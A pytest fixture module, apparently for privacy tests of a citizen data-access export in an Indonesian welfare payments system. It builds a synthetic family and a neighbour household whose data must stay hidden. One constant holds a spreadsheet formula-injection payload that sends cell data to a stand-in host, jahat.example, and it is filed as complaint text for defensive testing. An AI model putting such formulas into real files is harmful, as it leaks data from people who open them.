"""The access export's cast, built through the services: the Sunandar family of Sukarasa (head
Asep, the data subject; his wife Siti, pregnant; their son) with a KKS account, a PMT score and
its explanation, a PKH tahap approved and paid through the worker path (ledger entries and SMS),
a sequenced and signed ledger, complaints filed by Asep and a sign-in code; and the Kurnia family
next door with its own payment and complaint, which must never show in the Sunandars' copy.
The staff and regions are tests/conftest.py's.

Kept apart from a conftest.py (other privacy tests have their own): test modules import the
fixtures from here."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import pytest

from tests.conftest import BANDUNG_VILLAGE, make_members, pay, register_household
from tests.targeting.conftest import SPEC, write_survey

# What the other family wrote: it must not appear anywhere in the Sunandars' copy.
NEIGHBOUR_SECRET = "Rahasia keluarga Kurnia: utang di warung"
NEIGHBOUR_NAME = "Dadang Kurnia"
# A complaint text that a spreadsheet would run as a formula.
FORMULA = '=HYPERLINK("http://jahat.example/?"&A1,"klik")'


@dataclass
class Family:
    head: Any
    household: Any
    nik: str
    kk: str
    account: str
    spouse_nik: str
    payment_ref: str
    complaint_code: str
    neighbour: Any
    neighbour_nik: str
    neighbour_payment_ref: str
    neighbour_complaint_code: str


def build_family(
    *, operator: Any, supervisor: Any, admin: Any, tmp_path: Any, settings: Any
) -> Family:
    from tepat.grievances.services import complaint_submit
    from tepat.ledger.note import Signer
    from tepat.ledger.services import ledger_sequence
    from tepat.payments.models import Payment
    from tepat.portal.citizen import otp_request
    from tepat.targeting import services as targeting

    household = register_household(1, members=make_members(serial=1), account="4455667788")
    head = household.members.get(relationship="head")
    members = make_members(serial=2, head_name=NEIGHBOUR_NAME)
    neighbour = register_household(2, members=members, account="9988776655")
    neighbour_head = neighbour.members.get(relationship="head")

    from tepat.registry.services import household_update, person_update

    spouse = household.members.get(relationship="spouse")
    person_update(
        acting_user=operator, person=spouse, changes={"education": "sma"},
        source="musdes-2026", reason="ijazah baru",
    )  # fmt: skip
    household = household_update(
        acting_user=operator, household=household, changes={"floor_material": "ceramic"},
        source="verifikasi-lapangan", reason="kunjungan rumah",
    )  # fmt: skip

    survey = write_survey(tmp_path / "survey.csv")
    spec = tmp_path / "spec.toml"
    spec.write_text(SPEC, encoding="utf-8")
    model = targeting.pmt_calibrate(acting_user=None, survey_path=survey, spec_path=spec)
    targeting.scoring_run(acting_user=None, model=model)

    signer = Signer.generate("test.tepat/ledger")
    settings.LEDGER_ORIGIN = "test.tepat/ledger"
    settings.LEDGER_SIGNING_KEY = signer.skey()
    # PKH tahap 1 for both, approved by a second person, paid through the worker path (what
    # writes the ledger entries and the SMS).
    pay(operator=operator, supervisor=supervisor, admin=admin, households=[household, neighbour])
    ledger_sequence(max_batch=100)

    mine, _ = complaint_submit(
        submission_key="adusunandar1",
        category="amount",
        village_code=BANDUNG_VILLAGE,
        description=FORMULA + " nominal tahap 1 kurang",
        filed_by_ref=head.public_id,
    )
    theirs, _ = complaint_submit(
        submission_key="adukurnia1",
        category="other",
        village_code=BANDUNG_VILLAGE,
        description=NEIGHBOUR_SECRET,
        filed_by_ref=neighbour_head.public_id,
    )
    otp_request(nik=make_members(serial=1)[0]["nik"])

    def paid(h: Any) -> str:
        return Payment.objects.get(entitlement__household=h).public_id

    nik, spouse_nik = (m["nik"] for m in make_members(serial=1)[:2])
    return Family(
        head=head,
        household=household,
        nik=nik,
        kk=f"{BANDUNG_VILLAGE[:6]}1503150001",
        account="4455667788",
        spouse_nik=spouse_nik,
        payment_ref=paid(household),
        complaint_code=mine.tracking_code,
        neighbour=neighbour_head,
        neighbour_nik=members[0]["nik"],
        neighbour_payment_ref=paid(neighbour),
        neighbour_complaint_code=theirs.tracking_code,
    )


@pytest.fixture
def family(
    bandung_operator: Any, supervisor: Any, admin_user: Any, tmp_path: Any, settings: Any
) -> Family:
    return build_family(
        operator=bandung_operator,
        supervisor=supervisor,
        admin=admin_user,
        tmp_path=tmp_path,
        settings=settings,
    )
